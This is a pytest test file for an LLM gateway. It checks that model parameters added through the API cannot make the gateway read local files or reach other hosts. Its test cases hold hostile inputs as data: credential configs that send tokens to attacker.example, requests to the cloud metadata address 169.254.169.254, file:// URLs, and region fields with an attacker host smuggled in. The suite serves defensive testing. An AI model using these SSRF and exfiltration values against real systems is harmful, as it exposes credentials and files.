"""Whom the gateway can be made to ask, and which files to read, by who may add models but is nobody on its machine."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from .outsider import Outsider

SERVICE = {"type": "service_account", "project_id": "p", "client_email": "a@b.example", "private_key": "x"}
VERTEX = {"model": "vertex_ai/gemini-2.5-pro", "vertex_location": "us-central1", "vertex_project": "p"}
BEDROCK = {"model": "bedrock/anthropic.claude-3-haiku-20240307-v1:0", "aws_region_name": "us-east-1"}
FILE = "/etc/hostname"
METADATA = "http://169.254.169.254/latest/meta-data"


def federated(source: dict[str, Any], **more: Any) -> str:
    told = {"type": "external_account", "audience": "a", "subject_token_type": "urn:ietf:params:oauth:token-type:jwt"}
    return json.dumps({**told, "token_url": "https://attacker.example/token", "credential_source": source, **more})


@pytest.mark.parametrize(
    "params",
    [
        {**VERTEX, "vertex_credentials": FILE},
        {**VERTEX, "vertex_ai_credentials": FILE},
        {**VERTEX, "vertex_credentials": federated({"file": FILE})},
        {**VERTEX, "vertex_credentials": federated({"url": METADATA})},
        {**VERTEX, "vertex_credentials": json.loads(federated({"file": FILE}))},
        {**VERTEX, "vertex_credentials": json.dumps({**SERVICE, "token_uri": METADATA})},
        {
            **VERTEX,
            "vertex_credentials": json.dumps({**SERVICE, "token_uri": "https://googleapis.com.attacker.example/"}),
        },
        {**VERTEX, "vertex_credentials": json.dumps({**SERVICE, "token_uri": "http://oauth2.googleapis.com/token"})},
        {**VERTEX, "vertex_location": "attacker.example/"},
        {**BEDROCK, "aws_role_name": "r", "aws_web_identity_token": FILE},
        {**BEDROCK, "aws_region_name": "x.attacker.example/"},
        {**BEDROCK, "aws_sts_endpoint": "https://attacker.example"},
        {**BEDROCK, "aws_bedrock_runtime_endpoint": "https://attacker.example"},
        {"model": "oci/x", "oci_user": "u", "oci_tenancy": "t", "oci_fingerprint": "f", "oci_key_file": FILE},
        {"model": "openai/x", "api_base": METADATA, "api_key": "k"},
        {"model": "openai/x", "api_base": "http://[::ffff:169.254.169.254]/v1", "api_key": "k"},
        {"model": "openai/x", "api_base": "https://attacker.example/v1"},
        {"model": "openai/x", "api_key": "k", "ssl_certificate": FILE},
        {"model": "openai/x", "api_base": "file:///etc/hostname", "api_key": "k"},
        {"model": "openai/x", "api_base": "https://user:s3cret@provider.example/v1", "api_key": "k"},
    ],
    ids=lambda params: json.dumps({name: str(value)[:60] for name, value in params.items() if name != "model"})[:90],
)
async def test_no_file_and_no_other_host_is_reached_by_a_model_from_the_api(
    outsider: Outsider, params: dict[str, Any]
) -> None:
    for route, body in (
        ("POST /model/new", {"model_name": "m", "litellm_params": params}),
        ("POST /health/test_connection", {"litellm_params": params}),
    ):
        answer = await outsider.ask(route, body)
        assert answer.status == 400, (route, answer.status, answer.body)
        assert Path(FILE).read_bytes().strip() not in answer.body
    assert (await outsider.gateway.storage.people.load()).models == {}
    assert outsider.gateway.upstream.requests == []


async def test_no_credential_brings_what_a_model_may_not(outsider: Outsider) -> None:
    values = {"vertex_credentials": federated({"file": FILE})}
    made = await outsider.ask("POST /credentials", {"credential_name": "c", "credential_values": values})
    assert made.status == 200
    named = {**VERTEX, "litellm_credential_name": "c"}
    answer = await outsider.ask("POST /model/new", {"model_name": "m", "litellm_params": named})
    assert answer.status == 400, answer.body


async def test_google_credentials_of_a_service_account_are_taken(outsider: Outsider) -> None:
    pytest.importorskip("google.auth")
    for more in ({}, {"token_uri": "https://oauth2.googleapis.com/token"}):
        params = {**VERTEX, "vertex_credentials": json.dumps({**SERVICE, **more})}
        await outsider.done("POST /model/new", {"model_name": "m", "litellm_params": params})
